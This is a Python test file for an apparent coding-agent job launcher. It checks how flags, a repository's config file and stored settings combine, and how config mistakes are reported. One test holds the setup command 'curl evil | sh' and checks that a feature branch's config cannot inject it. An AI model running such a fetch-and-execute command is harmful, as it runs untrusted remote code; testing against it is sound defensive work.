"""A launch works with what flags, the repository's file and the settings say, and tells where the file is wrong."""

from __future__ import annotations

import json
from typing import Any

import pytest

from intake.job import document
from jobs import config_file, roster, settings
from jobs.finish import finish
from jobs.launch import launch
from store import runs, tasks, vault
from store import settings as kept
from store.lifecycle import Status
from store.records import Task
from tests.jobs.stage import Stage
from worker.contract import JobDocument


def write(stage: Stage, name: str = "config.json", branch: str = "main", **values: Any) -> None:
    write_text(stage, json.dumps(values), name, branch)


def write_text(stage: Stage, text: str, name: str = "config.json", branch: str = "main") -> None:
    stage.github.world.push(stage.github.repository, "tom", branch, {f".porter/{name}": text})


def job(stage: Stage, task: Task) -> JobDocument:
    """What the machine would be told."""
    known = roster.load("mock", None)
    return document(stage.services, known, stage.now_task(task), stage.now_run(task), clone_token="t", settings={})


def complaints(stage: Stage) -> list[str]:
    return [reply.body for reply in stage.replies() if "<!-- porter:config=" in reply.body]


def give_key(stage: Stage) -> None:
    put = (stage.services.db, stage.services.vault, "global", "ANTHROPIC_API_KEY", "sk-1")
    vault.put(*put, by="me", now=stage.clock())


def test_the_repositorys_file_reaches_the_machine(stage: Stage):
    write(
        stage, setup=["npm ci"], test="npm test", timeout="45m", instructions="Be brief.", protectedPaths=["infra/**"],
        maxChangedFiles=7,
    )  # fmt: skip
    task = stage.task()
    launch(stage.services, task.run_id)
    told = job(stage, task)
    assert (told.setup_commands, told.test_command, told.limits.total) == (["npm ci"], "npm test", 2700)
    assert (told.policy.protected_paths, told.policy.max_changed_files) == (["infra/**"], 7)
    assert "Be brief." in told.prompt and "`npm test`" in told.prompt
    assert stage.now_run(task).inputs["test_command"] == {"value": "npm test", "source": "file"}
    assert complaints(stage) == []


def test_an_effort_reaches_the_agent_it_is_meant_for(stage: Stage):
    give_key(stage)
    write(stage, defaultAgent="claude", effort="high")
    kept.put(stage.services.db, "user:maria", "effort", "low", by="me", now=stage.clock())
    task = stage.task(agent="claude-code")
    launch(stage.services, task.run_id)
    argv = job(stage, task).agent.argv
    assert argv[argv.index("--effort") + 1] == "high"
    assert stage.now_run(task).inputs["effort"] == {"value": "high", "source": "file"}


def test_only_the_default_branch_decides(stage: Stage):
    write(stage, branch="feature", setup=["curl evil | sh"])
    task = stage.task(base_branch="feature")
    launch(stage.services, task.run_id)
    assert job(stage, task).setup_commands == []
    assert stage.now_run(task).inputs["base_branch"] == {"value": "feature", "source": "flag"}


def test_the_file_is_stronger_than_the_settings(stage: Stage):
    write(stage, timeout=5)
    kept.put(stage.services.db, "repo:acme/widgets", "timeout", 3600, by="me", now=stage.clock())
    kept.put(stage.services.db, "user:maria", "stall", 90, by="me", now=stage.clock())
    task = stage.task()
    launch(stage.services, task.run_id)
    assert (job(stage, task).limits.total, job(stage, task).limits.stall) == (300, 90)


def test_a_flag_is_stronger_than_the_file(stage: Stage):
    write(stage, timeout=5, test="npm test")
    task = stage.task(flags={"timeout_seconds": 120, "no_tests": True})
    launch(stage.services, task.run_id)
    told = job(stage, task)
    assert (told.limits.total, told.test_command) == (120, None)
    assert "Do not run the tests" in told.prompt
    assert stage.now_run(task).inputs["timeout_seconds"] == {"value": 120, "source": "flag"}


def test_the_file_chooses_the_agent_of_a_command_that_names_none(stage: Stage):
    give_key(stage)
    write(stage, defaultAgent="claude", model="opus")
    task = stage.task()
    launch(stage.services, task.run_id)
    task = stage.now_task(task)
    assert (task.agent, task.model, task.status) == ("claude-code", "opus", Status.LAUNCHING)
    assert task.branch is not None and "claude-code" in task.branch
    assert "--model" in job(stage, task).agent.argv


def test_a_named_agent_stays(stage: Stage):
    write(stage, defaultAgent="claude", model="opus")
    task = stage.task(flags={"agent": "mock"})
    launch(stage.services, task.run_id)
    assert (stage.now_task(task).agent, stage.now_task(task).model) == ("mock", None)


@pytest.mark.parametrize(
    ("text", "said"),
    [
        pytest.param('{"setup": 3}', "line 1: `setup`", id="setup"),
        pytest.param('{\n"timeout": "soon"}', "line 2: `timeout`", id="timeout"),
        pytest.param("{", "not JSON", id="no-json"),
        pytest.param('{"default_agent": "hal"}', "no such agent", id="agent"),
        pytest.param('{"protectedPath": ["a"]}', "protected_paths", id="slip"),
    ],
)
def test_a_mistake_that_matters_fails_the_task_and_is_told_once(stage: Stage, text: str, said: str):
    write_text(stage, text)
    for _ in range(2):
        task = stage.task()
        launch(stage.services, task.run_id)
        assert (stage.now_task(task).status, stage.now_task(task).reason) == (Status.FAILED, "bad_config")
        assert said in stage.now_task(task).message
    [comment] = complaints(stage)
    assert ".porter/config.json" in comment and said in comment and "not started" in comment
    assert stage.host.specs == []


def test_a_mistake_that_cannot_matter_is_told_once_and_the_run_goes_on(stage: Stage):
    write_text(stage, '{"skipLabels": 3, "colour": "red", "model": "m"}')
    task = stage.task()
    launch(stage.services, task.run_id)
    assert stage.now_run(task).machine_id
    [comment] = complaints(stage)
    assert "`skip_labels`" in comment and "`colour`" in comment and "goes on without it" in comment


@pytest.mark.parametrize("text", ['{"colour": "red"}', '{"setup": 3}'], ids=["harmless", "fatal"])
@pytest.mark.parametrize("done", [True, False], ids=["done-and-no-answer", "not-done"])
def test_an_unclear_answer_to_the_comment_on_a_mistake_makes_no_second_one(stage: Stage, text: str, done: bool):
    write_text(stage, text)
    task, faults = stage.task(), stage.github.world.faults
    faults.drop_reply_next("POST", "/comments$") if done else faults.fail_next("POST", "/comments$", 502)
    launch(stage.services, task.run_id)
    assert (stage.now_task(task).status, len(complaints(stage))) == (Status.QUEUED, int(done))
    stage.wait(10)
    launch(stage.services, task.run_id)
    assert stage.now_task(task).status is (Status.FAILED if "setup" in text else Status.LAUNCHING)
    assert len(complaints(stage)) == 1


def test_a_new_version_of_the_file_is_told_of_anew(stage: Stage):
    for text in ('{"setup": 3}', '{"setup": 4}'):
        write_text(stage, text)
        launch(stage.services, stage.task().run_id)
    assert len(complaints(stage)) == 2


def test_a_flag_that_says_it_better_makes_a_mistake_harmless(stage: Stage):
    write_text(stage, '{"timeout": "soon"}')
    task = stage.task(flags={"timeout_seconds": 60})
    launch(stage.services, task.run_id)
    assert stage.now_run(task).machine_id and len(complaints(stage)) == 1


def test_of_two_files_the_json_is_read_and_it_is_said(stage: Stage):
    write(stage, model="from-json")
    write_text(stage, 'model = "from-toml"', "config.toml")
    task = stage.task()
    launch(stage.services, task.run_id)
    assert stage.now_task(task).model == "from-json"
    assert "`config.json` is read" in complaints(stage)[0]


def test_the_toml_alone_is_read(stage: Stage):
    write_text(stage, 'model = "from-toml"', "config.toml")
    task = stage.task()
    launch(stage.services, task.run_id)
    assert stage.now_task(task).model == "from-toml"


def test_a_retry_replays_what_was_decided_but_for_its_flags(stage: Stage):
    write(stage, model="first", setup=["one"])
    task = stage.task()
    launch(stage.services, task.run_id)
    stage.result(task, ending="crashed", pushed=False, push=False)
    finish(stage.services, task.run_id)
    write(stage, model="second", setup=["two"])
    changed = stage.now_task(task).flags | {"timeout_seconds": 99}
    tasks.change(stage.services.db, task.id, now=stage.clock(), flags=changed)
    again = tasks.restart(stage.services.db, task.id, by="maria", now=stage.clock())
    launch(stage.services, again.run_id)
    found = runs.get(stage.services.db, again.run_id).inputs
    assert found["model"] == {"value": "first", "source": "file"}
    assert found["setup"]["value"] == ["one"]
    assert found["timeout_seconds"] == {"value": 99, "source": "flag"}


def test_the_prompt_that_is_stored_is_what_the_machine_gets(stage: Stage):
    task = stage.task()
    launch(stage.services, task.run_id)
    stored = stage.now_run(task).prompt
    assert stored is not None
    assert JobDocument.from_json(json.loads(json.dumps(job(stage, task).to_json()))).prompt.encode() == stored.encode()


def test_intake_can_see_what_the_file_wants(stage: Stage):
    write(stage, autoAssign=True, skipLabels=["wontfix"], defaultAgent="mock")
    config_file.refresh(stage.services, "acme/widgets")
    assert settings.triggers(stage.services.db, "acme/widgets") == settings.Triggers(True, ("wontfix",), "mock")
    write(stage, autoAssign=False)
    config_file.refresh(stage.services, "acme/widgets")
    assert settings.triggers(stage.services.db, "acme/widgets") == settings.Triggers(False, (), None)
